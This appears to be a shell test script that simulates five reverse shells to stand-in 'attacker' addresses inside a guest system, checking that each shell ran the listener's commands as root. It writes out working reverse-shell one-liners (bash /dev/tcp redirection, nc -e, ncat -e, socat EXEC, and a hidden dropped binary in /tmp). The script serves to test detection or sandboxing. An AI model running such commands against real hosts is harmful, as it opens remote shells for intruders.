#!/bin/sh
# reverse-shell: five reverse shells to "remote" listeners (documentation addresses on the
# guest's lo; `netc serve` plays the attacker: it sends commands and collects the output).
#  1. bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1': /bin/bash is netc under that name
#     (busybox sh has no /dev/tcp): it connects, puts the socket on 0/1/2 and execs `sh -i`
#     in the same process, as bash does;
#  2. busybox `nc 203.0.113.7 4445 -e /bin/sh` (nc execs the shell in its own process);
#  3. `ncat -e /bin/sh 203.0.113.7 4446` (netc as /usr/bin/ncat: the shell is a child);
#  4. `socat TCP:198.51.100.7:4447 EXEC:/bin/sh` (netc as /usr/bin/socat: a child too);
#  5. a dropped binary in /tmp (/tmp/.x, netc again) connecting and exec'ing a shell.
set -x
N=/usr/local/bin/netc
CMDS='/bin/id; /bin/uname -n; exit
'
wait_file() {
	i=0
	while [ ! -e "$1" ] && [ $i -lt 100 ]; do /bin/usleep 50000; i=$((i + 1)); done
}
serve() { # N ADDR PORT: an attacker's listener, ready before the victim connects
	$N serve "$2" "$3" "/tmp/c$1.ready" "$CMDS" "/tmp/c$1.out" &
	wait_file "/tmp/c$1.ready"
}

/bin/cp $N /bin/bash
/bin/cp $N /usr/bin/ncat
/bin/cp $N /usr/bin/socat
/bin/cp $N /tmp/.x

serve 1 203.0.113.7 4444
/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'
wait

serve 2 203.0.113.7 4445
/bin/nc 203.0.113.7 4445 -e /bin/sh
wait

serve 3 203.0.113.7 4446
/usr/bin/ncat -e /bin/sh 203.0.113.7 4446
wait

serve 4 198.51.100.7 4447
/usr/bin/socat TCP:198.51.100.7:4447 EXEC:/bin/sh
wait

serve 5 198.51.100.7 8443
/tmp/.x revshell 198.51.100.7 8443 /bin/sh sh
wait

st=0
for n in 1 2 3 4 5; do
	/bin/cat /tmp/c$n.out
	# every shell must have run the attacker's commands
	/bin/grep -q 'uid=0' /tmp/c$n.out || { /bin/echo "shell $n did not run the commands"; st=1; }
done
exit $st
